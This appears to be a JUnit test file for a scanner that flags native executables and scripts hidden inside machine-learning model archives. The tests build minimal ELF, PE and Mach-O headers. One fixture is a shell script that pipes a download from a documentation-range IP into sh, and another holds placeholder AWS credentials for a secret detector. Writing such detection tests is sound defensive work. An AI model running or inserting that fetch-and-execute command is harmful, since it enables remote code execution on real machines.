package io.modelgate.scanner.binary;

import io.modelgate.scanner.Limits;
import io.modelgate.scanner.analysis.FileCollector;
import io.modelgate.scanner.model.ArtifactPath;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

import static io.modelgate.scanner.testing.ArtifactScan.ruleIds;
import static io.modelgate.scanner.testing.ArtifactScan.scan;
import static org.assertj.core.api.Assertions.assertThat;

class ExecutableAnalyzerTest {

    private static final ArtifactPath IN_ARCHIVE = ArtifactPath.of("model.pt").child("archive/data/0");

    static byte[] elf() {
        ByteBuffer b = ByteBuffer.allocate(128).order(ByteOrder.LITTLE_ENDIAN);
        b.put(new byte[]{0x7f, 'E', 'L', 'F', 2, 1, 1, 0}).position(16);
        b.putShort((short) 2).putShort((short) 0x3e).putInt(1);
        return b.array();
    }

    static byte[] pe() {
        ByteBuffer b = ByteBuffer.allocate(512).order(ByteOrder.LITTLE_ENDIAN);
        b.put((byte) 'M').put((byte) 'Z').putInt(0x3c, 0x80);
        b.position(0x80);
        b.put(new byte[]{'P', 'E', 0, 0}).putShort((short) 0x8664);
        return b.array();
    }

    static byte[] fatMachO() {
        ByteBuffer b = ByteBuffer.allocate(8192).order(ByteOrder.BIG_ENDIAN);
        b.putInt(0xcafebabe).putInt(2);
        b.putInt(0x01000007).putInt(3).putInt(4096).putInt(2048).putInt(12);
        b.putInt(0x0100000c).putInt(0).putInt(6144).putInt(2048).putInt(14);
        b.position(4096).putInt(0xcffaedfe);
        return b.array();
    }

    @Test
    void nativeProgramsAreRecognisedByStructure() {
        assertThat(scan("tool", elf()).format().id()).isEqualTo("executable");
        assertThat(scan("tool.exe", pe()).facts()).containsEntry("executable.kind", "PE (Windows) executable");
        assertThat(scan("tool", fatMachO()).facts()).containsEntry("executable.kind", "Mach-O universal binary");
        byte[] thin = ByteBuffer.allocate(64).order(ByteOrder.LITTLE_ENDIAN).putInt(0xfeedfacf).putInt(0x01000007)
                .putInt(3).putInt(2).array();
        assertThat(scan("tool", thin).facts()).containsEntry("executable.kind", "Mach-O 64-bit");
        for (byte[] bytes : new byte[][]{elf(), pe(), fatMachO(), thin}) {
            assertThat(ruleIds(scan("tool", bytes))).containsExactly("MG-EXE-001");
        }
    }

    @Test
    void programsInsideModelContainersAreCritical() {
        FileCollector result = scan(IN_ARCHIVE, elf(), Limits.defaults());
        assertThat(ruleIds(result)).containsExactly("MG-EXE-002");
        assertThat(result.findings().get(0).severity().name()).isEqualTo("CRITICAL");
        byte[] script = "#!/bin/sh\ncurl http://203.0.113.1/x | sh\n".getBytes(StandardCharsets.UTF_8);
        assertThat(ruleIds(scan(IN_ARCHIVE, script, Limits.defaults()))).containsExactly("MG-EXE-004");
    }

    @Test
    void lookalikesAreNotExecutables() {
        byte[] javaClass = ByteBuffer.allocate(64).putInt(0xcafebabe).putShort((short) 0).putShort((short) 61).array();
        assertThat(scan("A.class", javaClass).format().id()).isNotEqualTo("executable");
        byte[] hugeFat = ByteBuffer.allocate(64).putInt(0xcafebabe).putInt(5).putInt(0x01000007).putInt(3)
                .putInt(1 << 30).putInt(1 << 30).array();
        assertThat(scan("x", hugeFat).format().id()).isNotEqualTo("executable");
        byte[] mzText = "MZ is a text that starts like a DOS header but has no PE signature anywhere at all...."
                .getBytes(StandardCharsets.US_ASCII);
        assertThat(scan("notes.txt", mzText).format().id()).isEqualTo("text");
        byte[] badLfanew = pe();
        ByteBuffer.wrap(badLfanew).order(ByteOrder.LITTLE_ENDIAN).putInt(0x3c, 0x7fffffff);
        assertThat(scan("x", badLfanew).format().id()).isNotEqualTo("executable");
        byte[] badElf = elf();
        badElf[4] = 9;
        assertThat(scan("x", badElf).format().id()).isNotEqualTo("executable");
    }

    @Test
    void shellScriptNextToWeightsNeedsReview() throws IOException {
        byte[] script = Files.readAllBytes(Path.of("..", "fixtures", "misc", "convert.sh"));
        FileCollector result = scan("convert.sh", script);
        assertThat(ruleIds(result)).containsExactly("MG-EXE-003");
        assertThat(result.facts()).containsEntry("executable.interpreter", "bash");
        assertThat(ScriptSignature.interpreter("#!/usr/bin/env python3 -u\n".getBytes())).contains("python3");
        assertThat(ScriptSignature.interpreter("#!not a path\n".getBytes())).isEmpty();
    }

    @Test
    void scriptsAreSearchedForCredentials() {
        String key = "AKIA" + "Q3EGRXWZ4KTB7NVM";
        String secret = "wJalrXUtnF3MI/K7MDENG/bPxRfiCYz9Kq2Lp8Vd";
        byte[] script = ("#!/bin/sh\nexport AWS_ACCESS_KEY_ID=" + key + "\nexport AWS_SECRET_ACCESS_KEY=" + secret + "\n")
                .getBytes(StandardCharsets.UTF_8);
        assertThat(ruleIds(scan("upload.sh", script))).contains("MG-EXE-003", "MG-SEC-001");
    }
}
